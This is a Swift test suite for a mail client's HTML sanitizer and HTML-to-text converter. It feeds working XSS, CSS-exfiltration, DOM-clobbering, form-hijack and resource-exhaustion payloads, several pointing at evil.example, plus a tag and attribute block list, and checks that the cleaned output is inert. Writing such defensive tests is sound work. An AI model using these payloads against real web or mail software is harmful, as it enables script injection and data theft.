import Foundation
import Testing

@testable import Mail

/// A folder with collections of others' mail and payloads, named by `MAILFLOW_CORPUS`; without it those runs are skipped.
let corpus = ProcessInfo.processInfo.environment["MAILFLOW_CORPUS"]
var corpusFolder: URL { URL(fileURLWithPath: corpus ?? "/nonexistent") }

/// What must never be in cleaned HTML, whatever went in.
func expectInert(_ html: String, _ source: String, remote: Bool = false, _ location: SourceLocation = #_sourceLocation) {
    let lower = html.lowercased()
    let tags = [
        "<script", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<meta", "<base", "<link", "<svg", "<math", "<animate",
        "<template", "<video", "<body", "<textarea", "<select",
    ]
    for tag in tags { #expect(!lower.contains(tag), "\(source) → \(html)", sourceLocation: location) }
    // Inside tags only: text may say anything.
    let pieces: [Substring] = lower.split(separator: "<" as Character)
    let markup: [Substring] = pieces.map { piece in piece.prefix { $0 != ">" } }
    for tag in markup {
        for bad in [
            " on", "javascript:", "vbscript:", "srcdoc", "srcset", "formaction", "position:", "expression(", "@import", "z-index", "var(",
        ] {
            #expect(!outsideQuotes(tag, bad), "\(bad) in \(source) → \(html)", sourceLocation: location)
        }
        if !remote {
            #expect(
                !tag.contains("src=\"http") && !tag.contains("url(&quot;http") && !tag.contains("background=\"http"), "\(source) → \(html)",
                sourceLocation: location)
        }
    }
}

/// Attribute names and values count, free text in alt and title does not.
private func outsideQuotes(_ tag: Substring, _ bad: String) -> Bool {
    var text = tag
    for name in [" alt=\"", " title=\"", " aria-label=\"", " summary=\"", " face=\"", " abbr=\""] {
        while let start = text.range(of: name), let end = text[start.upperBound...].firstIndex(of: "\"") {
            text.removeSubrange(start.lowerBound...end)
        }
    }
    return text.contains(bad)
}

@Suite struct HTMLPolicyTests {
    @Test(arguments: [
        ("attack-1-animate-href", "<svg><a><animate attributeName=\"href \" values=\"javascript:alert(1)\"/><text>x</text></a></svg>"),
        ("attack-2-animate-style", "<svg><animate attributeName=\"style\" to=\"background:url(https://evil.example)\"></svg>"),
        (
            "attack-3-animate-values",
            "<svg><set attributeName=href to=javascript:alert(1)><animate attributeName=href from=javascript:alert(1) by=x>"
        ),
        (
            "attack-4-namespace",
            "<div><svg:svg xmlns:svg='http://www.w3.org/2000/svg'><svg:script>alert(1)</svg:script></svg:svg><svg><script href='data:,alert(1)'/></svg></div>"
        ),
        ("attack-5-mxss", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
        ("attack-5-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        (
            "attack-6-body",
            "<body bgcolor=\"red&quot; onload=&quot;alert(1)\" onload=alert(1) background=\"javascript:x\"><p bgcolor='\"><img src=x onerror=alert(1)>'>x"
        ),
        (
            "attack-7-comment",
            "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>"
        ),
        ("attack-9-clobbering", "<form id=config><input name=apiBase value=x></form><img name=body><a id=location>x</a>"),
        (
            "attack-10-head",
            "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example><p>x"
        ),
        (
            "attack-11-forms",
            "<form action=//evil.example><input name=a><button formaction=//evil.example>send</button><button form=x>y</button></form>"
        ),
        (
            "attack-12-srcset",
            "<img srcset='https://evil.example/a 2x'><video poster=https://evil.example/a><table background=https://evil.example/a><td background='https://evil.example/b'>x</td></table>"
        ),
        (
            "attack-12-css",
            "<p style='background:url(https://evil.example/a)'><p style='background-image:image-set(\"https://evil.example/a\" 1x)'><p style='--x:url(//evil.example);background:var(--x)'><p style='cursor:url(//evil.example),auto'><p style='background:url(https://evil.example/a'><p style=\"fill:url(//evil.example)\">"
        ),
        (
            "attack-12-sheet",
            "<style>@import url(//evil.example/a);@font-face{font-family:x;src:url(//evil.example/f)}p::marker{content:url(//evil.example)}p{background:url(//evil.example/b)}</style><p>x"
        ),
        (
            "attack-13-position-fixed",
            "<div style='position:fixed !important;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div><style>div{position:fixed;inset:0}</style>"
        ),
        ("attack-13-margins", "<div style='margin-top:-500px;margin:-9999px;text-indent:-9999px;width:99999999px'>x</div>"),
        (
            "attack-14-selectors",
            "<style>input[value^=a]{background:url(//evil.example/a)}:has(a){color:red}a:visited{color:red}p{color:red}</style><p>x"
        ),
        ("attack-17-unclosed", "<p title=\"<img src=x onerror=alert(1)>"),
        (
            "attack-18-schemes",
            "<a href=' java&Tab;script:alert(1)'>a</a><a href='vbscript:x'>b</a><a href='data:text/html,x'>c</a><a href='java%0ascript:alert(1)'>d</a><a href='&#1;javascript:x'>e</a><a href='JaVaScRiPt:x'>f</a><a href='file:///etc/passwd'>g</a><a href='//ok.example'>h</a>"
        ),
        (
            "attack-19-srcdoc",
            "<iframe srcdoc='<script>parent.document</script>'></iframe><frameset onload=x><frame src=x></frameset><object data=x></object>"
        ),
    ])
    func attack(_ name: String, _ html: String) {
        let clean = HTMLPolicy.clean(html)
        expectInert(clean.html, name)
        // Clean again: nothing new appears.
        expectInert(HTMLPolicy.clean(clean.html).html, name)
        expectInert(HTMLPolicy.clean(html, .init(allowRemote: true, remoteURL: { "/mail/image?u=\($0.utf8.count)" })).html, name)
    }

    @Test func attack8PlainText() {
        let html = PlainText.html(
            "see https://x.example/\"onmouseover=alert(1) <script>alert(1)</script> a@b.example'onx=1 http://a.example/(x) javascript:alert(1)\n> quoted\n>> twice\nback"
        )
        expectInert(html, "attack-8")
        #expect(html.contains("<a href=\"https://x.example/\""))
        #expect(html.contains("&lt;script&gt;"))
        #expect(html.contains("<blockquote>quoted<blockquote>twice</blockquote></blockquote>back"))
        #expect(html.contains("href=\"http://a.example/(x)\""))
    }

    @Test func attack15And16SheetsStayInTheMail() {
        let html =
            "<style>body{color:red} .a, #b > p {color:blue} @media (max-width:600px){.a{display:block}} .x{display:none}</style><p class=a id=b>x</p>"
        let clean = HTMLPolicy.clean(html).html
        #expect(
            clean.contains(
                "<style>.mf-root{color:red}.mf-root .mf-a,.mf-root #mf-b>p{color:blue}@media (max-width:600px){.mf-root .mf-a{display:block}}"
            ))
        #expect(clean.contains("<p class=\"mf-a\" id=\"mf-b\">"))
        #expect(!HTMLPolicy.clean(html, .compose).html.contains("<style"))
    }

    @Test(
        .timeLimit(.minutes(1)),
        arguments: [
            String(repeating: "<style", count: 170_000), String(repeating: "<head", count: 200_000),
            String(repeating: "<table>", count: 100_000),
            String(repeating: "<div>", count: 100_000), String(repeating: "<b>", count: 30_000) + String(repeating: "<p>", count: 30_000),
            "<a " + (0..<100_000).map { "a\($0)=1 " }.joined() + ">",
            String(repeating: "<span>", count: 50_000) + String(repeating: "</x>", count: 100_000),
            String(repeating: "<!--", count: 250_000), "<p>" + String(repeating: "x", count: 8_000_000),
            "<style>" + String(repeating: "a{", count: 200_000),
            "<style>" + String(repeating: "/*", count: 200_000), "<p style='" + String(repeating: "a:(", count: 100_000) + "'>",
        ])
    func attack17Exhaustion(_ html: String) {
        expectInert(HTMLPolicy.clean(html).html.prefix(100_000).description, "attack-17")
        _ = HTMLScan.text(Array(html.utf8))
    }

    @Test(arguments: [
        ("body.a{color:red}", ".mf-root.mf-a{color:red}"), (".a p{color:red}", ".mf-root .mf-a p,.mf-root.mf-a p{color:red}"),
        ("#b>p{color:red}", ".mf-root #mf-b>p,.mf-root#mf-b>p{color:red}"), (".x p{color:red}", ".mf-root .mf-x p{color:red}"),
        ("body.x p{color:red}", ".mf-root.mf-x p{color:red}"), (".a.x{color:red}", ".mf-root .mf-a.mf-x{color:red}"),
        // Nothing beside the root is ever met.
        ("body+p{color:red}", ""), ("body ~ p{color:red}", ""), ("body.a+p{color:red}", ""),
        (".a~p{color:red}", ".mf-root .mf-a~p{color:red}"),
    ])
    func theBodysOwnNamesAreTheRoots(_ css: String, _ kept: String) {
        let clean = HTMLPolicy.clean("<style>\(css)</style><body class='a c' id=b style='color:blue'><p>x</p></body>").html
        #expect(clean.hasPrefix("<div class=\"mf-root mf-a mf-c\""))
        #expect(clean.contains("id=\"mf-b\"") && clean.contains("style=\"color:blue\""))
        #expect(kept.isEmpty ? !clean.contains("<style") : clean.contains("<style>\(kept)</style>"), "\(clean)")
    }

    @Test(arguments: [
        "<div style='display:none'>secret</div>", "<p style='color:red; DISPLAY : NONE !important'>secret</p>",
        "<span hidden>secret</span>",
        "<div style='visibility:hidden'><b>secret</b></div>", "<table style='display:none'><tr><td>secret</table>",
    ])
    func attack15WhatIsHiddenIsNotQuoted(_ html: String) {
        let quoted = HTMLPolicy.clean("<p>seen</p>\(html)<p style='display:block'>too</p>", .compose).html
        #expect(quoted.contains("seen") && quoted.contains("too") && !quoted.contains("secret"), "\(quoted)")
        // Who reads sees the mail as its writer laid it out.
        #expect(HTMLPolicy.clean(html).html.contains("secret"))
    }

    @Test func links() {
        let clean = HTMLPolicy.clean(
            "<a href='https://a.example/?a=1&b=2'>x</a><a href='www.b.example'>y</a><a href='#top'>z</a><a href='mailto:a@b.example?attach=/etc/passwd&subject=s'>m</a><a href='page.html'>r</a>"
        ).html
        #expect(clean.contains("<a href=\"https://a.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"))
        #expect(clean.contains("href=\"https://www.b.example\""))
        #expect(clean.contains("href=\"#mf-top\""))
        #expect(clean.contains("href=\"mailto:a@b.example?subject=s\""))
        #expect(clean.contains("<a>r</a>"))
    }

    @Test func pictures() {
        let html =
            "<img src='cid:pic%40x' alt=p><img src='https://a.example/x.png' width=100><img src='https://t.example/x.gif' width=1 height=1><img src='data:image/png;base64,AAAA'><img src='data:image/svg+xml;base64,AAAA'>"
        let off = HTMLPolicy.clean(html, .init(cidURL: { "/part/\($0)" }))
        #expect(off.remoteImageCount == 2)
        #expect(off.blockedTrackers == 1)
        #expect(off.hasRemote)
        #expect(off.html.contains("src=\"/part/pic@x\""))
        #expect(off.html.contains("class=\"mf-blocked\" width=\"100\""))
        #expect(off.html.contains("data:image/png"))
        #expect(!off.html.contains("svg"))
        #expect(!off.html.contains("a.example"))
        let on = HTMLPolicy.clean(html, .init(allowRemote: true, remoteURL: { "/proxy?u=" + $0 }))
        #expect(on.html.contains("src=\"/proxy?u=https://a.example/x.png\""))
        #expect(!on.html.contains("t.example"))
    }

    @Test func ordinaryMailStays() {
        let html =
            "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tr><td style=\"padding: 10px 5px; font-family: 'Helvetica Neue', Arial; color:#333; line-height:1.5; border-top:1px solid rgb(0,0,0)\"><h1>Hi</h1><ul><li>one</li></ul></td></tr></table>"
        let clean = HTMLPolicy.clean(html).html
        #expect(
            clean.contains(
                "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#ffffff\"><tbody><tr><td style=\"padding:10px 5px;font-family:'Helvetica Neue', Arial;color:#333;line-height:1.5;border-top:1px solid rgb(0,0,0)\"><h1>Hi</h1><ul><li>one</li></ul>"
            ))
    }

    @Test(.enabled(if: corpus != nil)) func foreignPayloads() throws {
        struct Payload: Decodable { let payload: String }
        let file = corpusFolder.appendingPathComponent("html-xss.json")
        let payloads = try JSONDecoder().decode([Payload].self, from: try Data(contentsOf: file))
        #expect(payloads.count > 100)
        for payload in payloads { expectInert(HTMLPolicy.clean(payload.payload).html, payload.payload) }
    }
}

@Suite struct HTMLTextTests {
    @Test(arguments: [
        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree\n"),
        ("<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>", "- a\n- b\n  1. c\n"),
        ("<a href='https://x.example/'>x.example</a> <a href='https://y.example/a'>here</a>", "x.example here <https://y.example/a>\n"),
        ("<blockquote><p>q</p><p>r</p></blockquote><p>t</p>", "> q\n>\n> r\n\nt\n"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a\tb\nc\n"),
        ("<pre>a\n  b</pre>", "a\n  b\n"), ("caf&eacute; &amp; &#128512;", "café & 😀\n"), ("<style>x</style><script>y</script>", ""),
        ("<h1>T</h1>text", "T\n\ntext\n"),
    ])
    func text(_ html: String, _ text: String) { #expect(HTMLText.text(html) == text) }
}
